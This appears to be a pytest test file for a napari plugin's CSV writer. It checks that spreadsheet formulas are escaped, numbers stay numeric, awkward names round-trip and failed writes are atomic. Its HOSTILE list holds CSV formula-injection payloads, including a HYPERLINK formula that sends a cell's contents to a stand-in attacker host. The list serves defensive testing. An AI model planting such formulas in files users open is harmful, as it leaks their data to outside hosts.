"""The one CSV writer: no formula reaches a spreadsheet, numbers stay numbers, names round-trip."""

import csv
import errno
import io

import numpy as np
import pytest

from napari_nuclei_edges.tables import CsvTable, safe_text, save_table, table_csv

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1+1", "-1+1", "@SUM(1)",
           "\tnote", "\rnote"]  # fmt: skip


def _read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("name", HOSTILE)
def test_a_cell_that_a_spreadsheet_would_evaluate_is_escaped(name):
    text = table_csv({"class": np.array([name], dtype=object), "p": np.array([0.5])})
    assert _read(text)[1] == ["'" + name, "0.5"]


def test_numbers_stay_numbers_even_negative_ones():
    table = {"x": np.array([-0.5, 2.0, np.nan]), "n": np.array([-3, 4, 0]),
             "f32": np.array([-1e-7, 1, 2], np.float32)}  # fmt: skip
    rows = _read(table_csv(table))
    assert rows[1:] == [["-0.5", "-3", "-1e-07"], ["2", "4", "1"], ["", "0", "2"]]
    assert float(rows[1][0]) == -0.5  # a number a spreadsheet reads as one


def test_header_cells_are_escaped_too():
    assert _read(table_csv({"=cmd": np.array([1])}))[0] == ["'=cmd"]


def test_names_with_commas_quotes_and_newlines_round_trip():
    names = ["a, b", 'say "hi"', "two\nlines", "cr\r\nlf", "plain"]
    text = table_csv({"name": np.array(names, dtype=object), "v": np.arange(5)})
    rows = _read(text)
    assert [row[0] for row in rows[1:]] == names
    assert len(rows) == 6  # no junk row


def test_names_that_are_not_utf8_are_shown_and_counted(tmp_path):
    name = b"caf\xe9.png".decode("utf-8", "surrogateescape")  # os.listdir's reading
    assert safe_text(name) == ("caf\\xe9.png", True)
    written = save_table(tmp_path / "t.csv", {"name": np.array([name, "ok", name], dtype=object)})
    assert written.unreadable == 2 and written.rows == 3
    assert _read((tmp_path / "t.csv").read_text(encoding="utf-8"))[1] == ["caf\\xe9.png"]


def test_a_failed_write_leaves_the_old_file_and_no_partial(tmp_path, monkeypatch):
    path = tmp_path / "t.csv"
    path.write_text("old\n")

    def full(self, rows):
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(CsvTable, "write_rows", full)
    with pytest.raises(OSError):
        save_table(path, {"a": np.array([1])})
    assert path.read_text() == "old\n"
    assert [p.name for p in tmp_path.iterdir()] == ["t.csv"]
